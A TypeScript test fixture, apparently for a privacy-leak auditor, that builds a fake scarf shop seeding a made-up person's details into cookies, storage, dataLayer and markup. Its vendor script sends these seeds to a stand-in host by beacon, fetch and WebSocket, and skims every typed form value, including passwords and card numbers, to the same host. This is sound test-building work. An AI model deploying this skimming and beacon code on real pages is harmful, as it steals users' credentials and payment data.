// A shop that strews one made-up person's details everywhere a shop can put them, so that a test can look for them after.
import type { Front } from '../front'
import { pixel, type Site, script } from '../site'

/** Nobody: a reserved domain, a film telephone number, a test card. */
export const SEEDS = {
  first: 'Philomena',
  last: 'Quastenberg',
  email: 'philo.quastenberg@seedmail.example',
  phone: '+49 30 23125 777',
  street: 'Seidenspinnerweg 41',
  card: '4111 1111 1111 1111',
  iban: 'DE89 3704 0044 0532 0130 00',
  session: 'sk_live_51H8xQzVtGq0mWb7RkYc2JdLp',
  jwt: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJwaGlsbyIsImlkIjo5MTg0fQ.q0mWb7RkYc2JdLpVtGqzH8x51',
  customer: 'cus_Nf7kQ2xLw9RtYbVz',
}
/** Typed during the audit, and stand nowhere before. */
export const TYPED = {
  password: 'Gr8-Waldgeist!77',
  name: 'Eulalia Trommsdorff',
  email: 'eulalia.t@typedmail.example',
  street: 'Kupfergraben 88a',
  card: '5500 0000 0000 0004',
}

const all = JSON.stringify(SEEDS)
const SINK = 'in.seedsink.example'

/** Takes whatever it is given, and reads every field. */
const sink: Site = {
  hosts: [SINK],
  answer({ path }) {
    if (!path.endsWith('.js'))
      return pixel({ 'set-cookie': `u=${SEEDS.customer}; Secure; SameSite=None; Partitioned` })
    return script(`(function () {
  var seeds = ${all}, query = new URLSearchParams(seeds).toString();
  new Image().src = 'https://${SINK}/p?' + query + '&dl=' + encodeURIComponent(location.href);
  new Image().src = 'https://${SINK}/u/' + seeds.email + '/' + seeds.customer;
  fetch('https://${SINK}/j', { method: 'POST', body: JSON.stringify({ user: seeds, list: [seeds] }) });
  navigator.sendBeacon('https://${SINK}/b', btoa(JSON.stringify(seeds)));
  var line = new WebSocket('wss://${SINK}/s');
  line.onopen = function () { line.send(JSON.stringify({ hello: seeds })) };
  document.cookie = 'who=' + encodeURIComponent(seeds.first + ' ' + seeds.last) + ';path=/';
  document.cookie = 'mail_' + seeds.email + '=1;path=/';
  document.cookie = 'session=' + seeds.session + ';path=/';
  localStorage.setItem('user', JSON.stringify(seeds));
  localStorage.setItem('cart:' + seeds.email, seeds.card);
  sessionStorage.setItem('jwt', seeds.jwt);
  var open = indexedDB.open('people');
  open.onupgradeneeded = function () { open.result.createObjectStore('rows') };
  open.onsuccess = function () { open.result.transaction('rows', 'readwrite').objectStore('rows').put(JSON.stringify(seeds), seeds.email) };
  window.dataLayer = [{ event: 'login', user: seeds, userName: seeds.first + ' ' + seeds.last, email: seeds.email }];
  dataLayer.push({ event: 'purchase', customer: { firstName: seeds.first, lastName: seeds.last, address: { street: seeds.street } }, payment: { cardNumber: seeds.card, iban: seeds.iban } });
  document.addEventListener('change', function (event) {
    var field = event.target;
    new Image().src = 'https://${SINK}/f?v=' + encodeURIComponent(field.value) + '&w=' + encodeURIComponent(field.value.toLowerCase());
    if (line.readyState === 1) line.send(JSON.stringify({ k: field.id, v: field.value }));
    fetch('/api/draft', { method: 'POST', body: new URLSearchParams({ value: field.value }) })
  }, true)
})()`)
  },
}

export const seededShop: Front = {
  id: 'seeded',
  shop: {
    host: 'www.seidenweg.example',
    brand: 'Seidenweg',
    claim: 'Scarves, dyed by hand',
    language: 'en',
    currency: 'EUR',
    hue: 330,
    products: [
      {
        sku: 'SW-3',
        slug: 'indigo-scarf',
        name: 'Indigo Scarf',
        price: 79,
        about: 'Mulberry silk.',
        hue: 330,
      },
    ],
  },
  extras: {
    head: () => `<script src="https://${SINK}/x.js"></script>`,
    block: () => `<p class="hello">Hello ${SEEDS.first} ${SEEDS.last}</p>
<p>Welcome back, ${SEEDS.first}! Only 2 left, reserved for ${SEEDS.email}</p>
<p>We sent your receipt to ${SEEDS.email}, call ${SEEDS.phone}. Card ${SEEDS.card}.</p>
<h2>Recommended for ${SEEDS.first}</h2>
<form id="login" action="/imprint" method="post">
<input id="pw" type="password" name="password">
<input id="nm" name="full_name" aria-label="Full name"><input id="em" type="email" name="mail2">
<input id="st" name="street" aria-label="Street"><input id="cc" name="cardnumber" autocomplete="cc-number">
<input type="hidden" name="token" value="${SEEDS.jwt}"><input name="prefilled" value="${SEEDS.email}" hidden></form>`,
    end: () => `<a href="/imprint?email=${SEEDS.email}&token=${SEEDS.jwt}">Privacy settings</a>`,
  },
  vendors: [sink],
}
